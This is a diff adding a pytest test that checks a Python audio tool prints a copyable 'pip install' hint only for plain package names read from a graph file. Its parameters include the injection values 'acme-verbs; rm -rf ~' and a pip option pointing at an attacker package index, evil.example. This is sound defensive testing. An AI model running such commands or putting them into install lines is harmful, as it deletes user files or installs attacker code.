@@ -633,3 +633,24 @@ def test_pack_carries_no_local_path_of_an_adapter_made_elsewhere(tmp_path):
     assert json.loads(shared_meta["audiochain.lora"]) == {"base": {"checkpoint": "musicgen-small"}}
     assert (got / "adapter_model.safetensors").read_bytes().endswith(weights)      # the tensors as they were
     assert (adapter / "adapter_config.json").read_text().count("alice") == 1     # the sender's files untouched
+
+
+@pytest.mark.parametrize("written", ["acme-verbs; rm -rf ~", "--index-url=http://evil.example/simple acme",
+                                     "acme verbs", "acme-verbs"])
+def test_a_node_packs_package_is_named_only_as_a_package_name(tmp_path, capsys, written):
+    """QA100 D3: the package name a graph file gives for its node pack was printed as `pip install <it>`, so a
+    stranger's file could put a command or a pip option in the line a user copies.  Only a package name is
+    named; anything else reads as a file that does not name it."""
+    make_project(tmp_path / "ana")
+    import msgpack
+    doc = msgpack.unpackb((tmp_path / "ana" / "song.msgpack").read_bytes())
+    doc["nodes"].append({"id": "verb", "type": "fxpack.reverb", "version": 1, "params": {}})
+    doc["saved_by"]["node_packs"]["fxpack.reverb"] = "fxpack"
+    doc["saved_by"]["dists"] = {"fxpack": written}
+    (tmp_path / "ana" / "song.msgpack").write_bytes(msgpack.packb(doc))
+    assert main(["validate", str(tmp_path / "ana" / "song.msgpack")]) == 1
+    line = next(line for line in capsys.readouterr().out.splitlines() if "node 'verb'" in line)
+    if written == "acme-verbs":
+        assert "install it (pip install acme-verbs) and open the graph again" in line, line
+    else:
+        assert "pip install" not in line and written not in line and "(the graph file does not name it)" in line, line
